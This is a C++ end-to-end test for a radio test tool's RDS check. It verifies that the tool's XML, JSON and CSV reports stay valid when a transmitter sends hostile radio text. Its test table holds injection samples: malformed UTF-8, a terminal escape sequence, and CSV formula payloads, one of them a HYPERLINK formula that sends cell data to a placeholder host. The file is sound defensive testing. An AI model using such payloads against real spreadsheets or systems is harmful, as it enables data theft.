// Texts a transmitter may send, through a real transmit loopback: the
// first-generation handset transmits a radio text replayed from a data file,
// its receiver hears it back, benchora's --rds check of it fails, and the
// reports of that failure are read as a test station reads them (xmllint
// and a JUnit parser, a JSON parser, Python's csv module): every report is
// valid, no CSV cell starts a formula, and the text reads the same in each.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>

#include "shell_run.h"

namespace {

// The data file: 2A groups carrying `text` and its end mark, 16 times over.
std::string ReplayFile(std::string text) {
  text += '\r';
  while (text.size() % 4 != 0) text += ' ';
  std::string lines;
  for (int repeat = 0; repeat < 16; ++repeat) {
    for (size_t segment = 0; segment < text.size() / 4; ++segment) {
      const auto byte = [&](size_t i) {
        return static_cast<unsigned>(static_cast<unsigned char>(text[4 * segment + i]));
      };
      char line[64];
      std::snprintf(line, sizeof line, "0x5A01 0x%04X 0x%04X 0x%04X \n",
                    0x2540u | static_cast<unsigned>(segment), byte(0) << 8 | byte(1),
                    byte(2) << 8 | byte(3));
      lines += line;
    }
  }
  return lines;
}

std::string Script(const std::string& replay) {
  return "select CBTMode 1\nclick BtnFMREnable\nselect CBBandSelection 1\n"
         "type LEFrequency 89900000\nclick BtnWriteFrequency\ncheck cbx_rds_stack 0\n"
         "click BtnReadFrequency\nanswer-file " +
         replay +
         "\nclick btn_rds\nadvance 2800\nclick btn_rds\nclick BtnFMRDisable\n"
         "select CBTMode 0\nclick BtnFMREnable\ntype LEFrequency 89900000\n"
         "click BtnWriteFrequency\nclick btn_rds\nadvance 5600\nverify rds.rt = none\n";
}

TEST(HostileRds, EveryReportStaysValidAndSafe) {
  const struct {
    const char* name;
    std::string bytes;  // what the transmitter sends as radio text
    const char* text;   // how the reports give it (UTF-8)
    const char* cell;   // how the CSV cell reads, when not as `text`
    // The verdict line escapes the control bytes itself.
    const char* verdict = nullptr;
  } kTexts[] = {
      {"rds_letters",
       "R\x91"
       "DIO \xD7L",
       "R\u00E4DIO \u00D6L", nullptr},
      {"overlong_form", "\xC0\xAF", "\u00C1\u2193", nullptr},
      {"surrogate_form", "\xED\xA0\x80", "\u0179\u00AA\u00E1", nullptr},
      {"nonchar_form", "\xEF\xBF\xBE", "\u00F0\u00A7\u00BE", nullptr},
      {"beyond_unicode_form", "\xF4\x90\x80\x80", "\u0175\u00E2\u00E1\u00E1", nullptr},
      {"cut_short_form", "A\xE2\x82", "A\u00C6\u00E9", nullptr},
      {"cdata_end", "]]>", "]]>", nullptr},
      {"quotes", "\"'<>&", "\"'<>&", nullptr},
      {"control_bytes", std::string("a\x01\x1B[2J\x7F", 7), "a\\x01\\x1B[2J\\x7F", nullptr,
       "a\\x01\\x1B[2J\\x7F"},
      {"formula", "=1+1", "=1+1", "'=1+1"},
      {"hyperlink", "=HYPERLINK(\"http://x.example/?\"&A1)",
       "=HYPERLINK(\"http://x.example/?\"&A1)", "'=HYPERLINK(\"http://x.example/?\"&A1)"},
      {"at_sign", "@SUM(A1)", "@SUM(A1)", "'@SUM(A1)"},
      {"plus", "+CMD", "+CMD", "'+CMD"},
      {"minus", "-2+3", "-2+3", "'-2+3"},
  };
  // The verdict line quotes the text: quote marks and backslashes escaped.
  const auto quoted = [](const std::string& text) {
    std::string out;
    for (const char c : text) {
      if (c == '"' || c == '\\') out += '\\';
      out += c;
    }
    return out;
  };
  const std::filesystem::path folder =
      std::filesystem::temp_directory_path() / ("benchora-hostile-" + std::to_string(::getpid()));
  std::filesystem::create_directories(folder);
  for (const auto& text : kTexts) {
    SCOPED_TRACE(text.name);
    const std::string replay = (folder / "replay.log").string();
    std::ofstream(replay) << ReplayFile(text.bytes);
    std::ofstream(folder / "loop.txt") << Script(replay);
    const std::string xml = (folder / "r.xml").string();
    const std::string csv = (folder / "r.csv").string();
    const std::string out = (folder / "out.txt").string();
    const e2e::ShellRun run = e2e::RunShell(
        "cd \"" + folder.string() + "\" && unset TESSIC_AT_SERVER && SONVIO_CONFIG_DIR=\"" +
        folder.string() + "\" \"" + BENCHORA_PATH +
        "\" --chip gen1 --rds --json --script loop.txt --report r.xml --csv r.csv >\"" + out +
        "\" 2>&1; echo $?");
    EXPECT_EQ(run.text, "1\n");  // the check fails
    const e2e::ShellRun read =
        e2e::RunShell(std::string(PYTHON3) + " \"" + SOURCE_DIR + "/tests/e2e/check_reports.py\" " +
                      "rds.rt \"" + xml + "\" \"" + csv + "\" \"" + out + "\" 2>&1");
    const std::string shown = text.text;
    EXPECT_EQ(read.text, "xmllint: valid\njunit: failure: FAIL rds.rt: measured \"" +
                             (text.verdict ? std::string(text.verdict) : quoted(shown)) +
                             "\", limits = \"none\"\njson: FAIL value=" + shown +
                             "\ncsv: FAIL value=" + (text.cell ? text.cell : shown) + "\n");
  }
  std::filesystem::remove_all(folder);
}

}  // namespace
